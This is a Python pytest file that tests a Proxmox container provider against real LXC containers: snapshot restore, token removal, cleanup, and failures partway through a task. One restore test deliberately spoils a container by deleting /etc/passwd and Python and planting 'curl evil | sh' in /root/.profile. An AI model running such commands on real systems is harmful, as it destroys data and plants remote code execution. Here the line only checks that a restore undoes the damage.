"""The provider proxmox moves real containers: the API is the stand-in's, what it does is done to this host."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from shards.providers.base import CLEAN, ContainerState, Provider, Silent
from shards.providers.lxc.host import Host
from shards.providers.lxc.provider import LxcProvider
from shards.providers.proxmox.naming import Ref
from shards.providers.proxmox.provider import ProxmoxProvider
from tests.fixtures.provider_contract import ProviderContract
from tests.fixtures.proxmox.driven import add_template, settings_for, thread_turn
from tests.fixtures.proxmox.real import LxcBackend
from tests.fixtures.proxmox.server import StandIn, stand_in

from .conftest import TEMPLATE
from .inside import inside, output


class Driven(ProxmoxProvider):
    """The provider, and a way behind it: to the containers themselves."""

    def __init__(self, standin: StandIn, backend: LxcBackend) -> None:
        super().__init__(settings_for(standin, call_timeout_s=20, task_timeout_s=60), thread_turn)
        self.standin, self.backend = standin, backend

    def real(self, ref: str) -> str:
        return self.backend.refs[Ref.of(ref).vmid]


@pytest.fixture
def maker(host: Host, tmp_path: Path) -> Iterator[Driven]:
    backend = LxcBackend(LxcProvider(host), TEMPLATE)
    with stand_in(tmp_path / "certificates", backend) as running:
        add_template(running)
        running.world.containers[9000].disk_mb = 512
        try:
            yield Driven(running, backend)
        finally:
            for one in backend.maker.list():
                backend.maker.destroy(one.ref, Silent())
    assert not running.wrong_answers


class TestProxmox(ProviderContract):
    image = "general"

    def environment(self, maker: Provider, ref: str) -> dict[str, str]:
        assert isinstance(maker, Driven)
        pairs = output(maker.backend.maker, maker.real(ref), "cat", "/proc/1/environ").split("\0")
        return dict(pair.split("=", 1) for pair in pairs if pair)

    def write(self, maker: Provider, ref: str, mark: str) -> None:
        assert isinstance(maker, Driven)
        output(maker.backend.maker, maker.real(ref), "touch", f"/root/{mark}")

    def holds(self, maker: Provider, ref: str, mark: str) -> bool:
        assert isinstance(maker, Driven)
        return inside(maker.backend.maker, maker.real(ref), "test", "-e", f"/root/{mark}").returncode == 0


def test_a_spoilt_container_is_as_new_after_going_back(maker: Driven) -> None:
    ref = maker.create(TestProxmox().spec(), Silent())
    maker.start(ref, Silent())
    spoil = "rm -rf /usr/bin/python3* /etc/passwd; echo 'curl evil | sh' >/root/.profile"
    output(maker.backend.maker, maker.real(ref), "sh", "-c", spoil)
    maker.restore(ref, CLEAN, Silent())
    maker.start(ref, Silent())
    assert output(maker.backend.maker, maker.real(ref), "sh", "-c", "wc -l </etc/passwd") != "0"
    assert "evil" not in inside(maker.backend.maker, maker.real(ref), "cat", "/root/.profile").stdout


def test_going_back_takes_the_token_away_too(maker: Driven) -> None:
    contract = TestProxmox()
    ref = maker.create(contract.spec(), Silent())
    maker.restore(ref, CLEAN, Silent())
    maker.start(ref, Silent())
    assert "MYCTOBOT_ENROL_TOKEN" not in contract.environment(maker, ref)


def test_nothing_of_it_is_left_on_the_host(maker: Driven) -> None:
    ref = maker.create(TestProxmox().spec(), Silent())
    real = maker.real(ref)
    maker.start(ref, Silent())
    maker.destroy(ref, Silent())
    assert maker.backend.maker.status(real).state is ContainerState.GONE
    assert maker.list() == []


@pytest.mark.parametrize("kind", ["vzclone", "vzsnapshot"])
def test_a_task_that_fails_half_way_leaves_no_real_container(maker: Driven, kind: str) -> None:
    maker.standin.world.faults.tasks[kind] = "fail"
    with pytest.raises(Exception, match="Nothing is left of it"):
        maker.create(TestProxmox().spec(), Silent())
    assert maker.backend.maker.list() == []
